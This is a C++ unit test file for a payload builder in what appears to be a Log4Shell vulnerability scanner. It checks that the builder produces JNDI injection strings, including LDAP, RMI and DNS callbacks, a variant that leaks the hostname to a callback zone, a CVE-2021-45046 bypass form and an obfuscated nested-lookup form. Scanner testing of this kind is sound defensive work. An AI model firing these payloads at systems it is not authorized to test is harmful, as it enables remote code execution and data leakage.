#include "probe/payload.h"

#include <gtest/gtest.h>

namespace l4s::net {
namespace {

PayloadContext ctx(std::string zone = "") {
  PayloadContext c;
  c.ldap = "127.0.0.1:1389";
  c.rmi = "127.0.0.1:1099";
  c.dns = "127.0.0.1:5353";
  c.zone = std::move(zone);
  return c;
}

// Balanced `${ ... }` nesting: the flaw fullhunt's hand-written list had.
bool balanced(const std::string& s) {
  int depth = 0;
  for (size_t i = 0; i < s.size(); ++i) {
    if (s[i] == '$' && i + 1 < s.size() && s[i + 1] == '{') {
      ++depth;
      ++i;
    } else if (s[i] == '}') {
      if (--depth < 0) return false;
    } else if (s[i] == '{') {
      return false;  // a brace without '$' is a template slip
    }
  }
  return depth == 0;
}

TEST(PayloadTest, Baselines) {
  const std::string t = "abcdefghijkl0123";
  EXPECT_EQ(*make_payload(*find_variant("ldap"), ctx(), t), "${jndi:ldap://127.0.0.1:1389/abcdefghijkl0123}");
  EXPECT_EQ(*make_payload(*find_variant("rmi"), ctx(), t), "${jndi:rmi://127.0.0.1:1099/abcdefghijkl0123}");
  EXPECT_EQ(*make_payload(*find_variant("dns"), ctx(), t), "${jndi:dns://127.0.0.1:5353/abcdefghijkl0123}");
  EXPECT_EQ(*make_payload(*find_variant("dns-host"), ctx("cb.test"), t),
            "${jndi:ldap://x${hostName}.abcdefghijkl0123.cb.test/a}");
  EXPECT_EQ(*make_payload(*find_variant("cve-2021-45046"), ctx("cb.test"), t),
            "${jndi:ldap://127.0.0.1#abcdefghijkl0123.cb.test:1389/abcdefghijkl0123}");
}

TEST(PayloadTest, EveryVariantIsWellFormedAndCarriesTheToken) {
  const std::string t = "abcdefghijkl0123";
  for (const PayloadVariant& v : payload_variants()) {
    auto p = make_payload(v, ctx("cb.test"), t);
    ASSERT_TRUE(p.ok()) << v.id << ": " << p.error();
    EXPECT_TRUE(balanced(*p)) << v.id << ": " << *p;
    EXPECT_NE(p->find(t), std::string::npos) << v.id;
    EXPECT_EQ(p->rfind("${", 0), 0u) << v.id;
    EXPECT_EQ(p->find('?'), std::string::npos) << v.id << ": the JDK rejects LDAP URLs with a query";
  }
}

TEST(PayloadTest, ZoneVariantsNeedAZone) {
  EXPECT_FALSE(make_payload(*find_variant("dns-label"), ctx(), "t").ok());
  EXPECT_FALSE(find_variant("nope"));
}

TEST(PayloadTest, Encodings) {
  EXPECT_EQ(percent_encode("${jndi:ldap://a/b}"), "%24%7Bjndi%3Aldap%3A%2F%2Fa%2Fb%7D");
  EXPECT_EQ(percent_encode("aZ0-._~ "), "aZ0-._~%20");
  EXPECT_EQ(path_segment("${jndi:ldap://a/b}"), percent_encode("${jndi:ldap:${::-/}/a/b}"));
}

}  // namespace
}  // namespace l4s::net
